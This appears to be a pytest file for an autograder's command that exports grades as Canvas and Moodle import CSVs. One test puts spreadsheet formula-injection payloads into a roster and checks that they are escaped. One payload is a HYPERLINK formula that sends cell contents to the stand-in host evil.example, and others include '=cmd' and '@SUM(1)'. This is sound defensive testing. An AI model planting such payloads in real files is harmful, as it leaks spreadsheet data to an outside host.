"""Grades the LMS takes (issue 21): `export-grades` writes Canvas's and Moodle's grade-import CSV
from grade-all's reports or nbgrader's gradebook, mapped through a roster, as those systems
document them (fixtures in tests/lms/, written from their documentation), with a dry-run diff
against an earlier export; nothing a learner controls becomes a spreadsheet formula."""

from __future__ import annotations

import csv
import json
import shutil
from pathlib import Path

import pytest

from autograder.core.grade import load_rubric, without_results
from autograder.reporters import render
from tests.cli_in_process import run_cli
from tests.test_class_report import report, write_reports

FIXTURES = Path(__file__).with_name("lms")


def rows(path: Path) -> list[list[str]]:
    with path.open(newline="", encoding="utf-8") as f:
        return list(csv.reader(f))


def graded_class(folder: Path) -> Path:
    """ada 100, grace 62.5, barbara 0 (no submission), and a learner the roster does not hold."""
    wanted, failing = 62.5, {}
    points = {name: float(p) for table in load_rubric().values() for name, p in table.items()}
    score = sum(points.values())
    for name, worth in points.items():  # fail checks until grace has her 62.5
        if name not in failing and score > wanted and worth <= score - wanted:
            failing[name], score = None, score - worth
    grace = report("grace", failing)
    assert grace["score"] == wanted
    return write_reports(
        folder,
        {
            "ada": report("ada"),
            "grace": grace,
            "barbara": json.loads(render(without_results("barbara", "no submission"), "json")),
            "stranger": report("stranger"),
        },
    )


def test_canvas_export_matches_the_documented_import_columns(tmp_path, capsys):
    source = graded_class(tmp_path / "reports")
    out = tmp_path / "canvas.csv"
    done = run_cli(
        capsys, "export-grades", source, "--roster", FIXTURES / "canvas_roster.csv", "--to", "canvas",
        "--assignment-id", "48213", "--output", out,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert rows(out) == rows(FIXTURES / "canvas_import.csv")
    assert "1 not in the roster (no grade exported): stranger" in done.stderr


def test_moodle_export_matches_the_documented_import_columns(tmp_path, capsys):
    source = graded_class(tmp_path / "reports")
    out = tmp_path / "moodle.csv"
    done = run_cli(
        capsys, "export-grades", source, "--roster", FIXTURES / "moodle_roster.csv", "--to", "moodle",
        "--output", out,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert rows(out) == rows(FIXTURES / "moodle_import.csv")
    by_id = tmp_path / "by-idnumber.csv"
    run_cli(
        capsys, "export-grades", source, "--roster", FIXTURES / "moodle_roster.csv", "--to", "moodle",
        "--identify-by", "idnumber", "--output", by_id,
    )  # fmt: skip
    assert rows(by_id)[0] == ["ID number", "ch01"] and rows(by_id)[1] == ["S2026001", "100"]


def test_a_dry_run_against_the_previous_export_says_who_changed_and_by_how_much(tmp_path, capsys):
    source = graded_class(tmp_path / "reports")
    previous = tmp_path / "before.csv"
    shutil.copy(FIXTURES / "moodle_import.csv", previous)
    regraded = report("barbara", {"train_reaches_low_cost_on_xor": None})  # barbara submitted late
    (source / "barbara.json").write_text(json.dumps(regraded), encoding="utf-8")
    out = tmp_path / "after.csv"
    done = run_cli(
        capsys, "export-grades", source, "--roster", FIXTURES / "moodle_roster.csv", "--to", "moodle",
        "--output", out, "--previous", previous, "--dry-run",
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    assert not out.exists() and "dry run: nothing written" in done.stderr
    points = regraded["score"]
    assert f"1 changed since {previous}:\n  barbara@example.edu: 0 -> {points:g} (+{points:g})" in done.stderr


def test_a_learner_with_a_grader_error_is_left_out_not_exported_as_zero(tmp_path, capsys):
    source = graded_class(tmp_path / "reports")
    stopped = json.loads(render(without_results("grace", "grading stopped after 240 s"), "json"))
    (source / "grace.json").write_text(json.dumps(stopped), encoding="utf-8")
    out = tmp_path / "moodle.csv"
    done = run_cli(
        capsys, "export-grades", source, "--roster", FIXTURES / "moodle_roster.csv", "--to", "moodle",
        "--output", out,
    )  # fmt: skip
    assert [row[0] for row in rows(out)[1:]] == ["ada@example.edu", "barbara@example.edu"]
    assert "1 grader errors (left out: re-grade them, then export): grace" in done.stderr


def test_no_cell_starts_a_spreadsheet_formula(tmp_path, capsys):
    roster = tmp_path / "roster.csv"
    with roster.open("w", newline="", encoding="utf-8") as f:
        writer = csv.writer(f)
        writer.writerow(["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "learner"])
        writer.writerow(['=HYPERLINK("http://evil.example/?"&A1,"x")', "1001", "+1", "-1", "@SUM(1)", "=cmd"])
    source = write_reports(tmp_path / "reports", {"=cmd": report("=cmd")})
    out = tmp_path / "canvas.csv"
    done = run_cli(
        capsys, "export-grades", source, "--roster", roster, "--to", "canvas", "--assignment", "=ch01",
        "--output", out,
    )  # fmt: skip
    assert done.returncode == 0, done.stderr
    header, row = rows(out)
    for cell in header + row:
        assert not cell.startswith(("=", "+", "-", "@")), cell
    assert row[0].startswith("'=HYPERLINK") and row[-1] == "100"


def test_a_roster_without_the_columns_the_lms_needs_is_refused(tmp_path, capsys):
    roster = tmp_path / "roster.csv"
    roster.write_text("learner,Email address\nada,ada@example.edu\n", encoding="utf-8")
    source = graded_class(tmp_path / "reports")
    done = run_cli(capsys, "export-grades", source, "--roster", roster, "--to", "canvas")
    assert done.returncode == 2 and "no column Student, ID" in done.stderr


@pytest.mark.slow  # nbgrader autograde of the demo course (three notebooks)
def test_a_roster_maps_nbgraders_student_ids_to_canvas(tmp_path, capsys):
    from tools import demo

    course = tmp_path / "course"
    demo.build_course(course)
    demo.nbgrader(course, "autograde", demo.ASSIGNMENT)
    roster = tmp_path / "roster.csv"
    roster.write_text(
        "Student,ID,SIS User ID,SIS Login ID,Section,learner\n"
        "Ada,2001,S1,ada01,A,ada\nBlank,2002,S2,blank02,A,blank\nTrap,2003,S3,trap03,B,trap\n",
        encoding="utf-8",
    )
    out = tmp_path / "canvas.csv"
    done = run_cli(
        capsys,
        "export-grades",
        course / "gradebook.db",
        "--roster",
        roster,
        "--to",
        "canvas",
        "--output",
        out,
    )
    assert done.returncode == 0, done.stderr
    exported = {row[1]: float(row[-1]) for row in rows(out)[1:]}
    assert exported["2001"] == 100 and exported["2002"] == 0 and 0 < exported["2003"] < 100
    assert exported["2003"] == demo.gradebook(course)["trap"]  # nbgrader's own export agrees
